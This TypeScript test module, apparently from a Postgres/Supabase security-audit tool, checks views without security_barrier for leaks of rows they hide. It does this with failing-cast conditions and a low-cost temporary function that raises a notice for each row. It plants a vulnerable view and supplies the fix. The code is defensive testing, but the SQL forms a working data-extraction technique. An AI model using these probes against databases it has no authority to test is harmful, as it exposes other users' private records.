/** Asks views for rows with conditions that tell what they see before the view's own filter has hidden it. */

import { nameOf, select } from '../../fixtures/act/sql.ts';
import { bystanders } from '../../fixtures/engine/people.ts';
import type { Attack, Trial } from '../../fixtures/model/attack.ts';
import type { Column, Relation } from '../../fixtures/model/catalog.ts';
import type { Persona } from '../../fixtures/model/persona.ts';
import { columnsWith, mayUseSchema } from '../../fixtures/model/privilege.ts';
import type { Observation, Probe } from '../../fixtures/model/probe.ts';
import type { Scene } from '../../fixtures/model/scene.ts';
import type { Verdict } from '../../fixtures/model/verdict.ts';
import { judgeCanaries } from '../../fixtures/oracles/reading.ts';
import { ident } from '../../fixtures/wire/escape.ts';
import { NOTES } from '../plants.ts';

const HIDDEN_NOTES = `${NOTES} REVOKE ALL ON public.notes FROM anon, authenticated;`;

/** A filter that costs more than whatever the caller adds. */
const ASKED = `
CREATE FUNCTION public.me() RETURNS uuid LANGUAGE plpgsql STABLE SET search_path = '' AS $$ BEGIN RETURN auth.uid(); END $$;`;

const MINE = (option: string) =>
  `CREATE OR REPLACE VIEW public.mine ${option} AS SELECT n.id, n.body FROM public.notes AS n WHERE n.owner_id = public.me();`;

export const attack: Attack = {
  id: 'view-leaky-filter',
  group: 'view',
  severity: 'low',
  reachable: 'database_only',
  title: 'makes a view tell the rows that it hides',
  explains:
    'A view without security_barrier lets conditions of the caller run before its own WHERE, when they cost less. A cast that fails shows the value in its error; a temporary function tells every row in a notice.',
  plants: [
    {
      platform: 'supabase',
      base: HIDDEN_NOTES + ASKED,
      plant: `${MINE('')} REVOKE ALL ON public.mine FROM anon, authenticated; GRANT SELECT ON public.mine TO authenticated;`,
      repair: 'ALTER VIEW public.mine SET (security_barrier = true);',
    },
  ],
  repair: ({ name }) => `ALTER VIEW ${name} SET (security_barrier = true);`,
  *trials(scene) {
    for (const view of scene.catalog.relations.filter(mayHideRows)) {
      for (const persona of bystanders(scene.attackers)) {
        const columns = columnsWith(scene.catalog, view, persona.role, 'SELECT');
        const texts = view.columns.filter(({ name, category }) => category === 'S' && columns.includes(name));
        if (texts.length === 0 || !mayUseSchema(scene.catalog, view.schema, persona.role)) continue;
        yield trial(scene, view, texts, persona);
      }
    }
  },
};

/** A filter, and nothing that must be computed before a condition can be asked. */
function mayHideRows({ kind, platform, securityBarrier, definition }: Relation): boolean {
  return kind === 'view' && !platform && !securityBarrier && /\b(where|join)\b/i.test(definition ?? '');
}

function trial(scene: Scene, view: Relation, texts: readonly Column[], persona: Persona): Trial {
  const surface = { kind: 'relation', name: view.name, verb: 'select' } as const;
  const plain = select(
    view,
    texts.map(({ name }) => name),
  );
  return {
    surface,
    persona,
    shape: 'rolled back',
    probes: [
      { persona, sql: plain },
      ...texts.flatMap((column) => casts(view, column).map((sql) => ({ persona, sql }))),
      told(view, texts, persona),
    ],
    judge: ([shown, ...others]) => {
      // What the view shows to whoever asks is not hidden by its filter.
      if (!shown || shown.error || judgeCanaries(scene, surface, shown).state !== 'held') return { state: 'held' };
      const verdicts = others.map((observation) => judgeCanaries(scene, surface, observation));
      const at = verdicts.findIndex(({ state }) => state === 'broken');
      const [verdict, observation] = [verdicts[at], others[at]];
      // Few callers of the hosted platform could make a function: there a cast must reach the rows, too.
      const reached = scene.platform === 'plain' || others.some(isPastTheFilter);
      if (!verdict || !observation || !reached) return { state: 'held' };
      return hidden(scene, view, persona, observation, verdict, at + 1);
    },
  };
}

const NO_NUMBER = '22P02';

/** A cast failed though what the view shows was kept from it. */
function isPastTheFilter({ error, probe: { sql } }: Observation): boolean {
  return error?.sqlstate === NO_NUMBER && sql.includes(' WHERE CASE ');
}

function hidden(
  { platform }: Scene,
  view: Relation,
  { name }: Persona,
  { error }: Observation,
  verdict: Verdict,
  at: number,
): Verdict {
  if (verdict.state !== 'broken') return verdict;
  const how = error ? 'a cast that fails' : 'a temporary function in the condition';
  return {
    ...verdict,
    at,
    expected: `${name} learns nothing of the rows that ${view.name} leaves out`,
    observed: `${verdict.observed}: ${how} is evaluated before the view’s own filter`,
    // Where callers hold an SQL connection anyway, it takes nothing else.
    ...(platform === 'plain' ? { severity: 'medium' as const } : {}),
  };
}

/** With and without the rows that the view shows anyway, whose texts would be the first to fail. */
function casts(view: Relation, { name }: Column): readonly string[] {
  const cast = `CAST(${ident(name)} AS integer) = 0`;
  const shown = `${ident(name)} = ANY (ARRAY(SELECT ${ident(name)} FROM ${nameOf(view)}))`;
  return [cast, `CASE WHEN ${shown} THEN false ELSE ${cast} END`].map(
    (condition) => `SELECT 1 FROM ${nameOf(view)} WHERE ${condition}`,
  );
}

/** By an index on the filter's column the hidden rows would not even be looked at. */
const NO_INDEX = ['enable_indexscan', 'enable_indexonlyscan', 'enable_bitmapscan'].map(
  (setting) => `SET LOCAL ${setting} = off`,
);

const TELL = `CREATE FUNCTION pg_temp.rowproof_tell(told text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001
  AS $$ BEGIN RAISE NOTICE '%', told; RETURN true; END $$`;

function told(view: Relation, texts: readonly Column[], persona: Persona): Probe {
  const cells = texts.map(({ name }) => `pg_temp.rowproof_tell(${ident(name)}::text)`).join(' AND ');
  return {
    persona,
    first: [TELL, ...NO_INDEX],
    sql: `SELECT count(*) FROM ${nameOf(view)} WHERE ${cells}`,
  };
}
